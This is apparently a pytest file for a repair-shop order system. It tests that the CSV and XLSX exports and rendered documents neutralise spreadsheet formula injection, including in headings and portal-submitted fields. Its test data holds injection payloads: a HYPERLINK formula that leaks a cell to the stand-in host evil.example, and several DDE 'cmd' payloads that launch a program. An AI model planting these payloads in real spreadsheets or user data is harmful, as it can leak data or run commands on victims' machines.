"""Issue 17 §5: every CSV and XLSX we produce neutralises cells a spreadsheet would run as a formula.

Read back the way an attacker hopes a victim opens them: the CSV as text, the XLSX with openpyxl (which tells a
formula cell from a text cell)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pandas as pd
import pytest
from openpyxl import load_workbook

from dashboards.data.exports import to_csv, to_xlsx
from ops_db.documents.render import render
from ops_db.kit.spreadsheets import is_plain_number, safe_cell
from ops_db.kit.uow import Actor, UnitOfWork
from ops_db.orders import service as orders
from tests.conftest import Shop

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1, "Open")'
ATTACKS = [
    HYPERLINK,
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_text_that_starts_a_formula_gets_a_leading_quote(attack: str) -> None:
    assert safe_cell(attack) == "'" + attack


@pytest.mark.parametrize(
    "harmless", ["Ana Souza", "", "a=b", " =x", "-12.50", "+1 555 0100", "-$5.00", "-1 234,50 €", "-5%"]
)
def test_ordinary_text_and_text_that_is_only_a_number_stay_as_they_are(harmless: str) -> None:
    assert safe_cell(harmless) == harmless


def test_numbers_dates_and_empty_cells_are_not_text_and_stay_as_they_are() -> None:
    for value in (-5, -2.5, Decimal("-3.10"), None, True, datetime(2026, 1, 1, tzinfo=UTC)):
        assert safe_cell(value) is value
    assert not is_plain_number("-R$ 10,00")  # letters could name a cell (R10): neutralised
    assert not is_plain_number("-")


def _frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "customer": [*ATTACKS, "Zoë", None],
            "balance": [-5.25, -1, 0, 2, 3, 4, 5, -7, 8.5],
            "due": pd.to_datetime(["2026-11-02"] * 9).tz_localize("UTC"),
            "stage": pd.Series(["received"] * 8 + ["-ready"], dtype="string"),
        }
    )


def test_csv_download_neutralises_text_and_keeps_negative_numbers() -> None:
    data = to_csv(_frame())
    assert data.startswith("\ufeff".encode())
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert [r["customer"] for r in rows[: len(ATTACKS)]] == ["'" + a for a in ATTACKS]
    assert rows[len(ATTACKS)]["customer"] == "Zoë"
    assert [r["balance"] for r in rows[:2]] == ["-5.25", "-1.0"]  # numbers, never quoted
    assert rows[-1]["stage"] == "'-ready"
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            assert not value.startswith("-") or is_plain_number(value), value


def test_xlsx_download_has_no_formula_cell_and_keeps_negative_numbers_as_numbers() -> None:
    sheet = load_workbook(io.BytesIO(to_xlsx(_frame(), "Receivables"))).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    # xlsxwriter stores a CR as the OOXML escape _x000D_, which openpyxl hands back as it is.
    texts = {str(c.value).replace("_x000D_", "\r") for c in cells if c.data_type == "s"}
    assert {"'" + a for a in ATTACKS} <= texts
    assert not [c for c in cells if c.hyperlink is not None]
    balances = [sheet.cell(row=r, column=2).value for r in range(2, 4)]
    assert balances == [-5.25, -1]  # real numbers in number cells


def test_the_headings_of_a_download_are_neutralised_too() -> None:
    frame = pd.DataFrame({"=cmd": ["x"]})
    assert to_csv(frame).decode("utf-8-sig").splitlines()[0] == "'=cmd"


def test_a_portal_request_named_like_a_formula_comes_out_of_every_document_as_text(shop: Shop) -> None:
    receipt = orders.submit_request(
        UnitOfWork(shop.engine, Actor.public(shop.tenant_id)),
        orders.RequestIn(
            contact_name=HYPERLINK,
            contact_email="mallory@example.com",
            item_type="@phone",
            problem_description="-2+3+cmd|' /C calc'!A0",
        ),
    )
    data = render(UnitOfWork(shop.engine, Actor.system(shop.tenant_id)), "intake_receipt", receipt.order_id, "xlsx")
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not [c for c in cells if c.hyperlink is not None]
    values = [str(c.value) for c in cells]
    assert "'" + HYPERLINK in values
    assert not [v for v in values if v.startswith(("=", "+", "@")) or (v.startswith("-") and not is_plain_number(v))]


def test_the_orders_board_download_neutralises_a_formula_customer(shop: Shop) -> None:
    from dashboards.data.orders import open_orders

    orders.submit_request(
        UnitOfWork(shop.engine, Actor.public(shop.tenant_id)),
        orders.RequestIn(
            contact_name=HYPERLINK, contact_phone="+1 555 0100", item_type="phone", problem_description="cracked"
        ),
    )
    listed = open_orders(shop.engine, shop.person("manager"), search="", limit=50)
    rows = list(csv.reader(io.StringIO(to_csv(listed).decode("utf-8-sig"))))
    assert any("'" + HYPERLINK in row for row in rows[1:])
    assert not any(cell.startswith("=") for row in rows for cell in row)
